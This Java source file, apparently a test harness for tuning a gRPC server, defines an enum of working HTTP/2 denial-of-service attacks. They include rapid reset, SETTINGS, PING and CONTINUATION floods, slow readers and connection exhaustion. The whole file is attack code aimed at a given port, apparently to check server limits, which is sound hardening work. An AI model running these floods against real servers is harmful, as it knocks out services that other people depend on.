package dev.grpctuning.attack;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.locks.LockSupport;
import java.util.function.BooleanSupplier;
import java.util.function.Consumer;

import dev.grpctuning.hello.v1.HelloRequest;

/**
 * What a hostile client does. Attacks that are not over when they are told to stop close
 * their sockets.
 */
enum Attack {

	RAPID_RESET("rapid reset: calls that are cancelled at once") {

		@Override
		void run(int port, BooleanSupplier goesOn) throws IOException {
			resets(port, goesOn, false);
		}

	},

	RAPID_RESET_WITH_DATA("rapid reset with messages") {

		@Override
		void run(int port, BooleanSupplier goesOn) throws IOException {
			resets(port, goesOn, true);
		}

	},

	SLOW_READER("1,000 calls for 4 MiB each, whose responses are never read") {

		@Override
		void run(int port, BooleanSupplier goesOn) throws IOException {
			try (Http2Socket socket = Http2Socket.begin(port, 0).readAll()) {
				for (int stream = 1; stream < 2000; stream += 2) {
					socket.call(stream, Http2Socket.END_HEADERS, CALL)
						.message(stream, Http2Socket.END_STREAM, FOUR_MEBIBYTES_PLEASE);
				}
				socket.flush();
				await(goesOn);
			}
		}

	},

	SETTINGS_FLOOD("SETTINGS flood") {

		@Override
		void run(int port, BooleanSupplier goesOn) throws IOException {
			flood(port, goesOn, Http2Socket.SETTINGS, new byte[0], true);
		}

	},

	UNREAD_SETTINGS_ACKS("SETTINGS flood, ACKs never read") {

		@Override
		void run(int port, BooleanSupplier goesOn) throws IOException {
			flood(port, goesOn, Http2Socket.SETTINGS, new byte[0], false);
		}

	},

	PING_FLOOD("PING flood") {

		@Override
		void run(int port, BooleanSupplier goesOn) throws IOException {
			flood(port, goesOn, Http2Socket.PING, new byte[8], true);
		}

	},

	CONTINUATION_FLOOD("CONTINUATION flood") {

		@Override
		void run(int port, BooleanSupplier goesOn) throws IOException {
			byte[] more = new byte[1024];
			try (Http2Socket socket = Http2Socket.begin(port).readAll()) {
				socket.call(1, 0, CALL);
				while (goesOn.getAsBoolean()) {
					ByteArrayOutputStream block = new ByteArrayOutputStream();
					Http2Socket.header(block, "x-more", new String(more, StandardCharsets.US_ASCII).replace('\0', 'a'));
					socket.frame(Http2Socket.CONTINUATION, 0, 1, block.toByteArray()).flush();
				}
			}
		}

	},

	UNFINISHED_HEADERS("500 connections with unfinished header blocks") {

		@Override
		void run(int port, BooleanSupplier goesOn) throws IOException {
			connections(port, goesOn, 500, (socket) -> socket.call(1, 0, CALL));
		}

	},

	ENDLESS_BODY("100 calls whose message comes byte by byte") {

		@Override
		void run(int port, BooleanSupplier goesOn) throws IOException {
			try (Http2Socket socket = Http2Socket.begin(port).readAll()) {
				for (int stream = 1; stream < 200; stream += 2) {
					socket.call(stream, Http2Socket.END_HEADERS, CALL)
						.frame(Http2Socket.DATA, 0, stream, ByteBuffer.allocate(5).putInt(1, 1 << 20).array());
				}
				socket.flush();
				while (goesOn.getAsBoolean()) {
					for (int stream = 1; stream < 200; stream += 2) {
						socket.frame(Http2Socket.DATA, 0, stream, new byte[1]);
					}
					socket.flush();
					pause();
				}
			}
		}

	},

	LARGE_METADATA("calls with 9 KiB of metadata") {

		@Override
		void run(int port, BooleanSupplier goesOn) throws IOException {
			byte[] headers = Http2Socket.headers("x-large", "a".repeat(9 << 10));
			calls(port, goesOn, headers, new byte[0]);
		}

	},

	LARGE_MESSAGES("messages of 4 MiB and a byte") {

		@Override
		void run(int port, BooleanSupplier goesOn) throws IOException {
			calls(port, goesOn, CALL, new byte[(4 << 20) + 1]);
		}

	},

	TOO_MANY_STREAMS("10,000 never-ending calls on one connection") {

		@Override
		void run(int port, BooleanSupplier goesOn) throws IOException {
			try (Http2Socket socket = Http2Socket.begin(port).readAll()) {
				for (int stream = 1; stream < 20_000; stream += 2) {
					socket.call(stream, Http2Socket.END_HEADERS, CALL);
				}
				socket.flush();
				await(goesOn);
			}
		}

	},

	HTTP_1("HTTP/1.1 requests") {

		@Override
		void run(int port, BooleanSupplier goesOn) throws IOException {
			while (goesOn.getAsBoolean()) {
				try (Http2Socket socket = new Http2Socket(port)) {
					socket.bytes("GET / HTTP/1.1\r\nHost: localhost\r\n\r\n".getBytes(StandardCharsets.US_ASCII))
						.flush();
					pause();
				}
			}
		}

	},

	TLS_HELLO("TLS ClientHellos on a plaintext port") {

		@Override
		void run(int port, BooleanSupplier goesOn) throws IOException {
			byte[] hello = ByteBuffer.allocate(517)
				.put(new byte[] { 22, 3, 1, 2, 0, 1, 0, 1, (byte) 252, 3, 3 })
				.array();
			while (goesOn.getAsBoolean()) {
				try (Http2Socket socket = new Http2Socket(port)) {
					socket.bytes(hello).flush();
					pause();
				}
			}
		}

	},

	SILENT_CONNECTIONS("9,000 connections that send nothing") {

		@Override
		void run(int port, BooleanSupplier goesOn) throws IOException {
			List<Http2Socket> sockets = new ArrayList<>();
			try {
				for (int i = 0; i < 9000 && goesOn.getAsBoolean(); i++) {
					sockets.add(new Http2Socket(port));
				}
				await(goesOn);
			}
			finally {
				for (Http2Socket socket : sockets) {
					socket.close();
				}
			}
		}

	},

	IDLE_CONNECTIONS("2,000 connections without calls") {

		@Override
		void run(int port, BooleanSupplier goesOn) throws IOException {
			connections(port, goesOn, 2000, (socket) -> {
			});
		}

	};

	private static final byte[] CALL = Http2Socket.headers("x-some", "value");

	/**
	 * {@code response_bytes = 4194304}, whose number in the message is read from the
	 * schema.
	 */
	private static final byte[] FOUR_MEBIBYTES_PLEASE = HelloRequest.newBuilder()
		.setResponseBytes(4 << 20)
		.build()
		.toByteArray();

	private final String description;

	Attack(String description) {
		this.description = description;
	}

	String description() {
		return this.description;
	}

	/** Attacks until it is told to stop, or the server hangs up. */
	abstract void run(int port, BooleanSupplier goesOn) throws IOException;

	private static void resets(int port, BooleanSupplier goesOn, boolean data) throws IOException {
		try (Http2Socket socket = Http2Socket.begin(port).readAll()) {
			for (int stream = 1; goesOn.getAsBoolean(); stream += 2) {
				socket.call(stream, Http2Socket.END_HEADERS, CALL);
				if (data) {
					socket.message(stream, Http2Socket.END_STREAM, new byte[0]);
				}
				socket.frame(Http2Socket.RST_STREAM, 0, stream, new byte[] { 0, 0, 0, 8 });
				if (stream % 100 == 1) {
					socket.flush();
				}
			}
		}
	}

	private static void flood(int port, BooleanSupplier goesOn, int type, byte[] payload, boolean reads)
			throws IOException {
		try (Http2Socket socket = Http2Socket.begin(port)) {
			if (reads) {
				socket.readAll();
			}
			while (goesOn.getAsBoolean()) {
				for (int i = 0; i < 100; i++) {
					socket.frame(type, 0, 0, payload);
				}
				socket.flush();
			}
		}
	}

	private static void calls(int port, BooleanSupplier goesOn, byte[] headers, byte[] message) throws IOException {
		try (Http2Socket socket = Http2Socket.begin(port).readAll()) {
			for (int stream = 1; goesOn.getAsBoolean(); stream += 2) {
				socket.call(stream, Http2Socket.END_HEADERS, headers)
					.message(stream, Http2Socket.END_STREAM, message)
					.flush();
				pause();
			}
		}
	}

	private static void connections(int port, BooleanSupplier goesOn, int count, Consumer<Http2Socket> first)
			throws IOException {
		List<Http2Socket> sockets = new ArrayList<>();
		try {
			for (int i = 0; i < count && goesOn.getAsBoolean(); i++) {
				Http2Socket socket = Http2Socket.begin(port);
				sockets.add(socket);
				first.accept(socket);
				socket.flush();
			}
			await(goesOn);
		}
		finally {
			for (Http2Socket socket : sockets) {
				socket.close();
			}
		}
	}

	private static void await(BooleanSupplier goesOn) {
		while (goesOn.getAsBoolean()) {
			pause();
		}
	}

	private static void pause() {
		LockSupport.parkNanos(10_000_000);
	}

}
